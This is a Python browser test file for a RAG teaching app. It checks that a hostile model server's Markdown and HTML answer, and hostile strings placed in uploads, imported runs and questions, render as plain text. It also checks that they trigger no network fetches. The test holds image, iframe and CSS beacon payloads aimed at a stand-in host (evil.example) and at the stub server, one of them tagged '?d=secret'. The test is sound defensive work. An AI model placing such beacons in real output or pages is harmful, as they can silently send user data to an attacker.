"""Browser e2e: a hostile OpenAI-compatible server's answer renders as text; the browser fetches nothing it names.

The server (a small ``http.server`` thread on 127.0.0.1) answers ``/v1/models`` and streamed
``/v1/chat/completions`` with Markdown images, links and raw HTML pointing back at itself, and records every
request. The app's base and fine-tuned slots point at it (no key). A participant asks a question (itself carrying
an image) on Compare in headless Chromium: the answer's text shows, formatted, and the server never receives a
request for any URL that the answer or the question names.
"""

from __future__ import annotations

import json
import re
import threading
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from ragft import evaluation as EV
from ragft.evaluation import history as H
from ragft.settings import Settings
from tests.conftest import free_port
from tests.e2e.conftest import wait_idle

pytestmark = [pytest.mark.slow, pytest.mark.browser]

MODELS = ("hostile-base", "hostile-ft")
PASSWORD = "correct horse battery staple"
BAIT = ("/beacon.png", "/img.png", "/link", "/auto", "/frame", "/css.png", "/question.png", "/ref")
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002"
    "000154a24f5d0000000049454e44ae426082"
)


def hostile_answer(base: str) -> str:
    return (
        f"Safe **answer** marker-7Q.\n\n- first bullet\n- second bullet\n\n"
        f'![beacon]({base}/beacon.png?d=secret) <img src="{base}/img.png">\n'
        f'[click]({base}/link) <{base}/auto> <iframe src="{base}/frame"></iframe>\n'
        f"<style>body {{ background: url({base}/css.png) }}</style> :red[red] $x$\n\n[r]: {base}/ref\n"
    )


class HostileServer:
    def __init__(self) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.paths: list[str] = []
        self.lock = threading.Lock()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _record(self) -> None:
                with outer.lock:
                    outer.paths.append(self.path)

            def _send(self, status: int, body: bytes, ctype: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:
                self._record()
                if self.path.rstrip("/").endswith("/v1/models"):
                    data = {"object": "list", "data": [{"id": m, "object": "model", "owned_by": "x"} for m in MODELS]}
                    self._send(200, json.dumps(data).encode(), "application/json")
                else:
                    self._send(200, PNG, "image/png")

            def do_POST(self) -> None:
                self._record()
                body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
                text = hostile_answer(outer.base)
                model = body.get("model", MODELS[0])
                if not body.get("stream"):
                    out = {
                        "id": "x",
                        "object": "chat.completion",
                        "model": model,
                        "created": 0,
                        "choices": [
                            {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}
                        ],
                        "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
                    }
                    self._send(200, json.dumps(out).encode(), "application/json")
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                pieces = re.findall(r".{1,12}", text, flags=re.S)
                for i, piece in enumerate(pieces):
                    chunk = {
                        "id": "x",
                        "object": "chat.completion.chunk",
                        "model": model,
                        "created": 0,
                        "choices": [
                            {
                                "index": 0,
                                "delta": {"content": piece},
                                "finish_reason": "stop" if i == len(pieces) - 1 else None,
                            }
                        ],
                    }
                    self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                    self.wfile.flush()
                self.wfile.write(b"data: [DONE]\n\n")
                self.wfile.flush()

        self.httpd = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> HostileServer:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def requested(self) -> list[str]:
        with self.lock:
            return list(self.paths)


@pytest.fixture(scope="module")
def hostile():
    with HostileServer() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_app(hostile, app_on_stub):
    url, _ = app_on_stub(
        "untrusted-data",
        f"{hostile.base}/v1",
        {"BASE": MODELS[0], "FT": MODELS[1]},
        RAGFT_MAX_TOKENS="64",
        RAGFT_FACILITATOR_PASSWORD=PASSWORD,
    )
    return url


def test_hostile_answer_renders_as_text_and_loads_nothing(hostile_app, hostile, page):
    page.goto(hostile_app)
    wait_idle(page)
    page.get_by_test_id("stSidebarNav").get_by_text("Compare", exact=True).click()
    box = page.get_by_label("Your question")
    box.wait_for()
    wait_idle(page)
    question = f'Price? ![q]({hostile.base}/question.png) :red[loud] <img src="{hostile.base}/question.png">'
    box.fill(question)
    box.press("Enter")
    answers = page.locator("[data-testid='stHtml']", has_text="marker-7Q")
    answers.first.wait_for(timeout=300_000)
    wait_idle(page, 300_000)
    page.wait_for_load_state("networkidle")
    assert any(p.endswith("/chat/completions") for p in hostile.requested())  # the slots did call it
    fetched = [p for p in hostile.requested() if p.split("?")[0] in BAIT]
    assert fetched == [], fetched  # the browser requested nothing the answer or the question names
    # Every panel shows the answer as text: formatting kept, image and link syntax visible with their URLs.
    assert answers.count() == 4
    first = answers.first
    assert first.locator("strong", has_text="answer").count() == 1
    assert first.locator("li").count() == 2
    assert f"![beacon]({hostile.base}/beacon.png?d=secret)" in first.inner_text()
    assert f"[click]({hostile.base}/link)" in first.inner_text()
    # The question is shown as typed, not rendered.
    # The question is shown as typed (the page puts word joiners after ':' so nothing turns it into a link or an
    # emoji; they are invisible): in the finished comparison's heading, drawn by its rerun.
    page.wait_for_function(
        "q => document.querySelector('[data-testid=stMain]').innerText.replaceAll('\\u2060', '').includes(q)",
        arg=question,
        timeout=30_000,
    )
    # Nothing in the page loads from or links to the hostile server, and it never saw such a request.
    for selector in ("img", "a", "iframe", "link", "source", "video", "audio"):
        for attr in ("src", "href", "srcset", "data"):
            assert page.locator(f"{selector}[{attr}*='127.0.0.1:{hostile.port}']").count() == 0, (selector, attr)
    assert page.locator("[data-testid='stHtml'] style").count() == 0


# ---- every untrusted rendering path in one walk: 0 requests to any host but the app's -------------------------
def walk_strings(base: str) -> str:
    """Hostile Markdown and HTML naming an outside host and the hostile server (single quotes: it goes in CSV)."""
    return (
        "![x](http://evil.example/md.png) <img src='http://evil.example/img.png'> "
        "<iframe src='http://evil.example/frame'></iframe> [l](http://evil.example/link) "
        "<style>body{background:url(http://evil.example/css.png)}</style> "
        f"<link rel='stylesheet' href='http://evil.example/s.css'> ![y]({base}/walk.png) :red[x] $x$ marker-W9"
    )


def run_file(text: str, created: datetime) -> bytes:
    """An evaluation run file as the Evaluate page exports it, with ``text`` as configuration name (and so its
    tooltips), question set name, question and answer."""
    qs = EV.default_question_set().subset(2)
    ev = EV.Evaluation.new(qs, ["ft_rag"])  # a known key, renamed below (an imported file may name any)
    for q, score in zip(qs.questions, (1.0, 0.0), strict=True):
        ev.records.append(
            EV.EvalRecord(q.id, text, "ft_rag", "ft_rag", True, answer=text, fact_score=score, total_s=1.0)
        )
    exported = H.SavedRun.from_evaluation(ev, H.describe_settings(Settings())).to_json()
    d = json.loads(exported.replace('"ft_rag"', json.dumps(text)))
    d.update(question_set=text, created=created.isoformat())
    return json.dumps(d).encode()


def _nav(page, title: str) -> None:
    """Open a page from the sidebar and wait until the browser is on it: a click that lands while the last rerun
    is still settling can be dropped, so it is made again (at most three times)."""
    link = page.get_by_test_id("stSidebarNav").locator("a").filter(has=page.get_by_text(title, exact=True))
    href = link.get_attribute("href")
    for attempt in range(3):
        link.click()
        try:
            page.wait_for_function("h => location.href.split('?')[0] === h", arg=href, timeout=15_000)
            break
        except PlaywrightTimeout:
            if attempt == 2:
                raise
    wait_idle(page)


def _upload(page, name: str, data: bytes, mime: str, nth: int = 0) -> None:
    page.get_by_test_id("stFileUploaderDropzoneInput").nth(nth).set_input_files(
        {"name": name, "mimeType": mime, "buffer": data}
    )
    wait_idle(page)


def _walk(page, app: str, evil: str) -> None:
    """Every untrusted rendering path in turn, in one participant's page (then the facilitator's console)."""
    page.goto(app)
    wait_idle(page)

    # Knowledge base: a file whose name and text are hostile; its row, its chunks, a hostile search.
    _nav(page, "Knowledge base")
    name = "![x](https:evil.example) <img src=https:evil.example> walk.md"
    _upload(page, name, f"# Walk\n\n{evil}\n\nThe Kestrel 2 Tent costs $149.\n".encode(), "text/markdown")
    page.get_by_role("button", name="Index 1 file").click()
    page.get_by_text("indexed 1").first.wait_for(timeout=180_000)
    wait_idle(page)
    page.get_by_role("tab", name="Chunk inspector").click()
    wait_idle(page)
    page.get_by_role("tab", name="Retrieval playground").click()
    page.get_by_label("Query").fill(evil[:900])
    page.get_by_role("button", name="Search").click()
    wait_idle(page)

    # Fine-tune: training uploads whose CSV header and message role are hostile (listed in the error).
    _nav(page, "Fine-tune")
    for fname, data, mime in (
        ("walk.csv", f"{evil},other\na,b\n".encode(), "text/csv"),
        (
            "walk.jsonl",
            json.dumps(
                {"messages": [{"role": evil, "content": "hi"}, {"role": "assistant", "content": "ok"}]}
            ).encode(),
            "application/jsonl",
        ),
    ):
        _upload(page, fname, data, mime)
        page.get_by_role("button", name="Use this file").click()
        wait_idle(page)
        page.get_by_text("problem").first.wait_for()

    # Evaluate: two imported runs whose configuration, question set, questions and answers are hostile.
    _nav(page, "Evaluate")
    page.get_by_text("Import a run").click()
    now = datetime.now(UTC)
    for i, created in enumerate((now, now - timedelta(hours=1))):
        _upload(page, f"run-{i}.json", run_file(evil, created), "application/json", nth=-1)
        page.get_by_text("Imported").first.wait_for()
    wait_idle(page)

    # Compare: a hostile question, answered by the hostile server's Markdown (model output).
    _nav(page, "Compare")
    box = page.get_by_label("Your question")
    box.fill(evil[:500])
    box.press("Enter")
    page.locator("[data-testid='stHtml']", has_text="marker-7Q").first.wait_for(timeout=300_000)
    wait_idle(page, 300_000)

    # The facilitator's class results: participants' questions (this one) listed.
    page.goto(app + "/facilitator")
    wait_idle(page)
    page.get_by_label("Facilitator password").fill(PASSWORD)
    page.get_by_role("button", name="Unlock").click()
    wait_idle(page)
    page.get_by_role("tab", name="Class results").click()
    page.get_by_text("Most asked questions").wait_for()
    page.get_by_text("marker-W9").first.wait_for(state="attached")
    page.wait_for_load_state("networkidle")


def test_hostile_strings_through_every_path_load_nothing_from_outside(hostile_app, hostile, browser, tmp_path):
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(hostile_app))
    evil = walk_strings(hostile.base)
    ctx = browser.new_context(viewport={"width": 1600, "height": 1000})
    outside: list[str] = []

    def watch(request) -> None:
        url = request.url
        if url.startswith(("http:", "https:", "ws:", "wss:")) and not url.startswith(origin + "/"):
            outside.append(url)

    ctx.on("request", watch)
    # Whatever the page asks of another origin is recorded (above), then refused here: nothing leaves the machine.
    ctx.route("**/*", lambda route: route.continue_() if route.request.url.startswith(origin + "/") else route.abort())
    page = ctx.new_page()
    page.set_default_timeout(120_000)
    try:
        _walk(page, hostile_app, evil)
    except PlaywrightTimeout as exc:  # say where the walk stopped: the page as it was, and a screenshot
        shot = tmp_path / "walk-timeout.png"
        page.screenshot(path=str(shot), full_page=True)
        raise AssertionError(f"{exc}\n--- {page.url} ({shot}) ---\n{page.inner_text('body')[:3000]}") from exc

    assert outside == [], sorted(set(outside))  # the browser asked no host but the app's for anything
    assert not [p for p in hostile.requested() if p.startswith("/walk")], hostile.requested()
    for selector in ("img", "iframe", "link", "source", "video", "audio"):
        for attr in ("src", "href", "srcset"):
            assert page.locator(f"{selector}[{attr}*='evil.example']").count() == 0, (selector, attr)
    ctx.close()
